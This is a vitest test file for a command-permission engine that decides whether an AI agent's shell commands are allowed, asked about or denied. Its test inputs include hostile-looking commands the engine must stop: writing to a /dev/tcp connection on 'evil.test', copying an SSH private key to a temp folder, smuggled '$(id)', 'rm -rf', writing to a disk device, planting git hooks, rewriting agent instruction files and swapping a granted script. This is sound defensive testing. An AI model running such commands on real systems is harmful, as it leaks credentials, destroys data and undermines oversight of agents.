/** Commands that only act on files are judged by where they read and write: the tables say what asks. */
import { describe, expect, test } from "vitest";
import { decide } from "./decide.js";
import type { Policy } from "./policy.js";
import { FORCED_GIT_SETTINGS } from "./forced-git-settings.js";
import { plannedCommand } from "./intent.js";
import type { Intent, OutsideLink } from "./intent.js";
import { inMode } from "./modes.js";
import type { Mode } from "./modes.js";
import type { Rule } from "./rule.js";

const places = { roots: ["/ws"], home: "/home/ann" };
const base: Intent = plannedCommand({
  cwd: "/ws",
  executor: { language: "bash", shell: "/bin/bash", forced: FORCED_GIT_SETTINGS },
});

const decided = (command: string, policy: Partial<Policy>, more: Partial<Intent> = {}) =>
  decide({ ...base, command, ...more }, { ...places, rules: [], ...policy });
const under = (mode: Mode, command: string, ...rules: readonly Rule[]) =>
  decided(command, inMode(mode, rules)).effect;

const READ_OTHER: Rule = { allow: "read", path: "/other/**" };

describe("rules on reading below a folder", () => {
  test.each([
    "cat /other/a.ts",
    "ls -la /other",
    "grep -rn x /other/src | head",
    "sed -n 1,20p /other/f",
    "cd /other && ls && grep -n x src/a.ts",
    "cd /other && git log --oneline | head -3",
    "git -C /other log -1",
    "cd /other\ngrep -c x a.ts",
    "cd /other; wc -l README.md",
    "find /other -name '*.go'",
    "wc -l < /other/a.ts",
    "cat /other/*.ts",
    "diff /other/a.ts src/a.ts",
    "(cd /other && head -5 a.ts); ls",
    "cd /other/src && cat ../README.md",
    "tree /other; stat /other/a",
    "cp /other/a.ts src/a.ts",
  ])("lets a rule on reading below a folder cover a command that only reads there: %s", (command) => {
    expect(under("accept-edits", command, READ_OTHER)).toBe("allow");
    expect(under("accept-edits", command)).toBe("ask");
  });

  test.each([
    "cat /otherwise/a.ts",
    "cat /other/../etc/hostname",
    "cd /other && cat ../elsewhere/a",
    "cat /other/.env",
    "cd /other && cat .env",
    "cat /other/.e*",
    "cat /OTHER/a.ts",
    "echo x > /other/a.ts",
    "cp src/a.ts /other/a.ts",
    "mv /other/a.ts src/a.ts",
    "ln /other/a.ts src/a.ts",
    "ln -s /other/a.ts src/a.ts",
    "rm /other/a.ts",
    "touch /other/a",
    "sed -i s/a/b/ /other/f",
    "cd /other && make",
    "cd /other && ./run.sh",
    "cd /other && npm test",
    "cd /other && git commit -m x",
    "cat /proc/self/root/other/a",
    "cat /other/a & cat /other/b",
    "grep -R x /other",
    "find /other -delete",
    "cat /other/a $(id)",
  ])("lets a rule on reading below a folder cover nothing more: %s", (command) => {
    expect(under("accept-edits", command, READ_OTHER)).not.toBe("allow");
  });

  test("does not let a rule on reading below a folder cover the target of a link in it", () => {
    const toKey = { named: "/other/link", path: "/home/ann/.ssh/id_rsa" };
    const effect = (command: string, rule: Rule, link: OutsideLink) =>
      decided(command, inMode("accept-edits", [rule]), { outsideLinks: [link] }).effect;
    expect(effect("cat /other/link", READ_OTHER, toKey)).toBe("ask");
    expect(effect("cat /other/l*", READ_OTHER, { ...toKey, pattern: "/other/l*" })).toBe("ask");
    expect(effect("cat /other/a", READ_OTHER, toKey)).toBe("allow");
    expect(effect("cat /other/link", { allow: "read", path: "/**" }, toKey)).toBe("ask");
    expect(effect("cat /other/link", READ_OTHER, { named: "/other/link", path: "/other/a" })).toBe("allow");
    expect(effect("cd /other/link && cat a", READ_OTHER, { named: "/other/link/a", path: "/else/a" })).toBe(
      "ask",
    );
  });

  test("names the rule on reading that covered the command", () => {
    const { rule } = decided("cd /other && cat a.ts src/b.ts", { rules: [READ_OTHER] });
    expect(rule).toBe("allow read /other/**");
  });

  test("opens nothing by a rule on reading in read-only, and nothing to a tool of another name", () => {
    expect(under("read-only", "cat /other/a.ts", READ_OTHER)).toBe("deny");
    expect(under("ask", "cat /other/a.ts", { allow: "read_file", path: "/other/**" })).toBe("ask");
    expect(under("ask", "cat /other/a.ts", { allow: "execute", path: "/other/**" })).toBe("ask");
  });

  test("lets a rule on reading cover the tools that read and search alike", () => {
    for (const access of ["read", "search"] as const) {
      const intent: Intent = { ...base, kind: access, paths: [{ path: "/other/src", access }] };
      expect(decide(intent, { ...places, rules: [READ_OTHER] }).effect).toBe("allow");
    }
  });

  test("does not let a rule on reading one file cover a folder of that name", () => {
    const rule: Rule = { allow: "read", path: "/other/x" };
    expect(under("ask", "cat /other/x", rule)).toBe("allow");
    expect(under("ask", "grep -r a /other/x", rule)).toBe("ask");
    expect(under("ask", "ls /other/x", { allow: "read", path: "/other/*" })).toBe("ask");
  });

  test("puts a denial below a folder before a rule on reading there", () => {
    const denied: Rule = { deny: "read", path: "/other/keys/**" };
    expect(under("ask", "cat /other/keys/a", READ_OTHER, denied)).toBe("deny");
    expect(under("ask", "grep -r x /other", READ_OTHER, denied)).toBe("ask");
    expect(under("ask", "cat /other/a", READ_OTHER, denied)).toBe("allow");
  });
});

test("a rule on searching covers the commands that search, and no others", () => {
  const rule: Rule = { allow: "search", path: "/other/**" };
  expect(under("ask", "grep -rn x /other", rule)).toBe("allow");
  expect(under("ask", "find /other -name a", rule)).toBe("allow");
  expect(under("ask", "cat /other/a", rule)).toBe("ask");
  expect(decided("grep x a.ts", { rules: [{ deny: "search" }], default: "allow" }).effect).toBe("deny");
});

describe("going to a folder", () => {
  test.each(["cd /other", "cd ..", "cd ~", "cd /other && cd /ws && ls", "cd /other && cat /ws/a.ts"])(
    "asks nothing by itself: %s",
    (command) => {
      expect(under("ask", command)).toBe("allow");
    },
  );
  test.each(["cd /other && ls", "cd .. && ls", "cd ~/.ssh", "cd /other > x", "cd $X", "cd /other && pwd"])(
    "asks for what is done there: %s",
    (command) => {
      expect(under("ask", command)).toBe("ask");
    },
  );
});

describe("commands in accept-edits", () => {
  test.each([
    "mkdir -p docs && cat > docs/a.md <<'EOF'\nhello\nEOF",
    "echo x >> notes.txt",
    "printf 'a\\n' > src/a.ts && wc -l src/a.ts",
    "ls | tee out.txt",
    "echo x | tee -a out.txt >/dev/null",
    "touch a b c",
    "cp src/a.ts src/b.ts",
    "cp src/a.ts src/b.ts lib/",
    "cp -r src/a src/b",
    "mv src/a.ts src/b.ts",
    "mv a.ts b.ts && sed -i s/a/b/ c.ts",
    "ln -s a.ts b.ts",
    "ln a.ts b.ts",
    "sed -i 's/old/new/g' src/a.ts",
    "sed -i.bak -e 's/a/b/' -e '/x/d' src/*.ts",
    "sed -i '3i line' a.ts",
    "sed -i '3i\\\nline' a.ts",
    "chmod +x scripts/run.sh",
    "chmod 644 a",
    "git show HEAD:a.ts > old.ts && diff old.ts a.ts",
    "git diff > p.diff",
    "> empty.txt",
    "cd src && echo x > a.ts",
    "truncate -s 100 a.log",
  ])("asks nothing about an edit in the workspace: %s", (command) => {
    expect(under("accept-edits", command)).toBe("allow");
    expect(under("ask", command)).toBe("ask");
    expect(under("read-only", command)).toBe("deny");
  });

  test.each([
    ["a file that was just written is run", "cat > x.sh <<'E'\nid\nE\nsh x.sh"],
    ["a file that was just written is run by its name", "echo id > x && chmod +x x && ./x"],
    ["a script steers an interpreter", "echo 'import os' > a.py; python3 a.py"],
    ["something is deleted", "rm a.txt"],
    ["a folder is deleted", "rm -rf build"],
    ["everything is deleted", "rm -rf ."],
    ["a hook", "echo x > .git/hooks/pre-commit"],
    ["a hook in other letters", "echo x > .GIT/hooks/pre-commit"],
    ["an environment file", "echo x >> .env"],
    ["a copy of an environment file", "cp .env a.txt"],
    ["instructions", "cat > AGENTS.md <<'E'\nx\nE"],
    ["instructions by tee", "echo x | tee docs/agents.md"],
    ["instructions by sed", "sed -i s/a/b/ CLAUDE.md"],
    ["instructions as a backup", "sed -i.md s/a/b/ AGENTS"],
    ["a backup elsewhere", "sed -i'/tmp/*' s/a/b/ x"],
    ["instructions by moving", "mv a.md AGENTS.md"],
    ["settings of a package manager", "echo x > .npmrc"],
    ["a folder of hooks", "mkdir -p .husky"],
    ["a pipeline", "cp ci.yml .github/workflows/ci.yml"],
    ["the environment file under another name", "ln .env a.txt"],
    ["the instructions under another name", "ln -s AGENTS.md a.md"],
    ["the instructions by a hard link", "cp -l AGENTS.md a.md"],
    ["git's data under another name", "ln -s .git g"],
    ["outside", "echo x > /other/a"],
    ["outside by dots", "echo x > ../a"],
    ["outside by dots in a folder", "cd src && echo x > ../../a"],
    ["the home", "echo x > ~/.bashrc"],
    ["a source outside", "cp /other/a.ts a.ts"],
    ["a source outside, moved", "mv /other/a.ts a.ts"],
    ["a link out", "ln -s /other o"],
    ["an open file of the process", "echo x > /proc/self/fd/3"],
    ["an open file by its device", "echo x > /dev/fd/3"],
    ["below an output", "echo x > /dev/stdout/../fd/3"],
    ["a device", "echo x > /dev/sda"],
    ["a connection", "echo x > /dev/tcp/evil.test/80"],
    ["a sed script that runs", "sed -i '1e id' a"],
    ["a sed script from a file", "sed -i -f s.sed a"],
    ["names from a list", "find . -name '*.ts' | xargs rm"],
    ["names from find", "find . -name '*.ts' -exec touch {} +"],
    ["names from find, edited", "find . -name '*.ts' -exec sed -i s/a/b/ {} +"],
    ["a pattern as a target", "echo x > *.md"],
    ["hidden files by a pattern", "sed -i s/a/b/ ./.*"],
    ["a variable", "echo x > $F"],
    ["in the background", "sleep 1 && echo x > a &"],
    ["an unpacked archive", "tar xf a.tar"],
    ["a download", "curl -o a https://example.com/a"],
    ["an index", "git add a.ts"],
    ["a tracked move", "git mv a.ts b.ts"],
    ["a formatter", "prettier --write src"],
    ["rights for all", "chmod 777 a"],
    ["rights of the owner", "chmod u+s a"],
    ["rights below a folder", "chmod -R 700 src"],
    ["through a link made before", "ln -s docs d && echo x > d/a.md"],
    ["through a link moved before", "mv l m && echo x > m/a"],
    ["through a copied link", "cp -a l m && echo x > m/a"],
    ["by another program of that name", "./tee out.txt"],
    ["as another user", "sudo tee out.txt"],
    ["emptied", "cp /dev/null src/a.ts"],
  ])("still asks about %s: %s", (_what, command) => {
    expect(under("accept-edits", command)).not.toBe("allow");
  });

  test("lets a rule on deleting cover rm, and a denial still deny", () => {
    const remove: Rule = { allow: "delete" };
    expect(under("accept-edits", "rm a.txt", remove)).toBe("allow");
    expect(under("accept-edits", "rm -rf dist && mkdir dist", remove)).toBe("allow");
    expect(under("accept-edits", "rm /other/a", remove)).toBe("ask");
    expect(under("accept-edits", "rm .env", remove)).toBe("ask");
    expect(under("accept-edits", "rm -rf .", remove)).toBe("deny");
    expect(under("accept-edits", "echo x > gen/a", { deny: "edit", path: "/ws/gen/**" })).toBe("deny");
    expect(under("accept-edits", "sed -i s/a/b/ a.ts", { deny: "delete" })).toBe("allow");
    expect(under("accept-edits", "sed -i s/a/b/ a.ts", { deny: "execute", command: "rm *" })).toBe("allow");
    expect(under("accept-edits", "mv a b", { deny: "delete" })).toBe("deny");
    expect(under("accept-edits", "mv a b", { ask: "move" })).toBe("ask");
  });

  test("lets an allowed command write its output into the workspace", () => {
    const tests: Rule = { allow: "execute", command: "npm test" };
    expect(under("accept-edits", "npm test > out.log 2>&1", tests)).toBe("allow");
    expect(under("accept-edits", "npm test 2>&1 | tee out.log | tail -3", tests)).toBe("allow");
    expect(under("ask", "npm test > out.log", tests)).toBe("ask");
    expect(under("accept-edits", "npm test > .git/config", tests)).toBe("ask");
  });
});

describe("a session's scratch folder", () => {
  const scratch = "/tmp/toolgate-1000/abc-def";
  const shell: Intent["executor"] = {
    ...base.executor,
    language: "bash",
    known: { TMPDIR: scratch, HOME: "/home/ann" },
  };
  const effect = (mode: Mode, command: string, ...rules: readonly Rule[]) =>
    decided(command, { ...inMode(mode, rules), scratch }, { executor: shell }).effect;

  test.each([
    `echo x > ${scratch}/a`,
    "git log > $TMPDIR/log && wc -l $TMPDIR/log",
    "mkdir -p $TMPDIR/x && cp src/a.ts $TMPDIR/x/ && rm -r $TMPDIR/x",
    "cd $TMPDIR && ls && touch b",
    "sed -i s/a/b/ $TMPDIR/a",
    'F="$TMPDIR/a"; echo x > "$F"; cat "$F"',
  ])("needs no rule: %s", (command) => {
    expect(effect("ask", command)).toBe("allow");
    expect(effect("read-only", command)).toBe("deny");
  });

  test("reads the session's scratch folder in read-only", () => {
    expect(effect("read-only", "cat $TMPDIR/a && grep -r x $TMPDIR")).toBe("allow");
  });

  test.each([
    "rm -rf $TMPDIR",
    "echo KEY=1 > $TMPDIR/.env",
    "echo x > $TMPDIR/../other/a",
    "cat $TMPDIR/../../toolgate-1000/zzz/a",
    "cp .env $TMPDIR/a",
    "cp ~/.ssh/id_rsa $TMPDIR/a",
    "mv src/a.ts $TMPDIR/a",
    "ln -s / $TMPDIR/root",
    "ln /etc/hostname $TMPDIR/h",
    "cp $TMPDIR/a src/a.ts",
    "sh $TMPDIR/a.sh",
    "$TMPDIR/a.sh",
    "cd $TMPDIR && ./a.sh",
  ])("opens nothing else: %s", (command) => {
    expect(effect("ask", command)).not.toBe("allow");
  });

  test.each([
    ["make *", "cd $TMPDIR && make"],
    ["make *", "make -C $TMPDIR"],
    ["sh *", "sh $TMPDIR/a.sh"],
    ["python3 *", "python3 $TMPDIR/a.py"],
    ["npm *", "npm --prefix $TMPDIR test"],
  ])("runs no code by a rule for %s: %s", (pattern, command) => {
    expect(effect("accept-edits", command, { allow: "execute", command: pattern })).toBe("ask");
  });

  test("takes the output of a command that a rule allows", () => {
    expect(effect("ask", "npm test > $TMPDIR/out 2>&1", { allow: "execute", command: "npm test" })).toBe(
      "allow",
    );
  });

  test("opens the session's scratch folder to the tools for files, and closes it by a rule that denies", () => {
    const intent: Intent = {
      ...base,
      kind: "edit",
      tool: "write_file",
      paths: [{ path: `${scratch}/a`, access: "write" }],
    };
    expect(decide(intent, { ...places, ...inMode("ask", []), scratch }).effect).toBe("allow");
    const linked: Intent = {
      ...intent,
      paths: [{ path: "/home/ann/x", named: `${scratch}/a`, access: "write" }],
    };
    expect(decide(linked, { ...places, ...inMode("ask", []), scratch }).effect).toBe("ask");
    expect(effect("ask", "echo x > $TMPDIR/a", { deny: "edit", path: "/tmp/**" })).toBe("deny");
  });

  test("does not enter the session's scratch folder through a link", () => {
    const link = { named: `${scratch}/l`, path: "/home/ann/.ssh" };
    const { effect: decision } = decided(
      `ls ${scratch}/l`,
      { ...inMode("ask", []), scratch },
      { outsideLinks: [link] },
    );
    expect(decision).toBe("ask");
  });
});

describe("a temporary file that the session made", () => {
  const effect = (mode: Mode, command: string, temporary: readonly string[], ...rules: readonly Rule[]) =>
    decided(command, inMode(mode, rules), { temporary }).effect;
  const own = ["/tmp/new.csv", "/tmp/work"];

  test.each([
    "git show HEAD:a.csv > /tmp/new.csv && wc -l /tmp/new.csv",
    "mkdir -p /tmp/work && cp a.ts /tmp/work/a.ts && diff a.ts /tmp/work/a.ts",
    "rm /tmp/new.csv",
    "rm -r /tmp/work/x",
  ])("is edited like a file of the workspace: %s", (command) => {
    expect(effect("accept-edits", command, own)).toBe("allow");
    expect(effect("ask", command, own)).toBe("ask");
    expect(effect("accept-edits", command, [])).toBe("ask");
  });

  test("is read in every mode", () => {
    for (const mode of ["ask", "accept-edits", "read-only"] as const)
      expect(effect(mode, "tail -5 /tmp/new.csv", own)).toBe("allow");
  });

  test.each([
    ["cat /tmp/other", []],
    ["cat /tmp/new.csv2", []],
    ["ls /tmp", []],
    ["cat /tmp/*", []],
    ["cat /tmp/work/../other", []],
    ["sh /tmp/new.csv", [{ allow: "execute", command: "sh *" }]],
    ["python3 /tmp/work/a.py", [{ allow: "execute", command: "python3 *" }]],
    ["echo x > /tmp/work/.env", []],
  ] as const)("opens nothing else: %s", (command, rules) => {
    expect(effect("accept-edits", command, own, ...rules)).toBe("ask");
  });
});

describe("a grant that is bound to a file's content", () => {
  const grant: Rule = {
    allow: "execute",
    command: ["./run.sh"],
    folder: "/ws",
    input: "",
    contents: { "/ws/run.sh": "abc" },
  };
  const contents = { "/ws/run.sh": "abc" };
  const effect = (command: string) => decided(command, inMode("accept-edits", [grant]), { contents }).effect;

  test.each(["./run.sh", "echo x > a.txt && ./run.sh", "mkdir -p out; ./run.sh | tee out/log"])(
    "holds while nothing changes the file: %s",
    (command) => expect(effect(command)).toBe("allow"),
  );
  test.each([
    "echo id > run.sh && ./run.sh",
    "echo id > RUN.SH; ./run.sh",
    "cp evil.sh run.sh && ./run.sh",
    "cp evil/run.sh . && ./run.sh",
    "mv evil.sh run.sh; ./run.sh",
    "sed -i s/a/b/ run.sh && ./run.sh",
    "sed -i s/a/b/ ./*.sh && ./run.sh",
    "echo id | tee run.sh | cat; ./run.sh",
    "ln -f evil.sh run.sh && ./run.sh",
    "echo x | tee run.sh | ./run.sh",
  ])("holds no longer when another part may change it: %s", (command) => {
    expect(effect(command)).not.toBe("allow");
  });
});
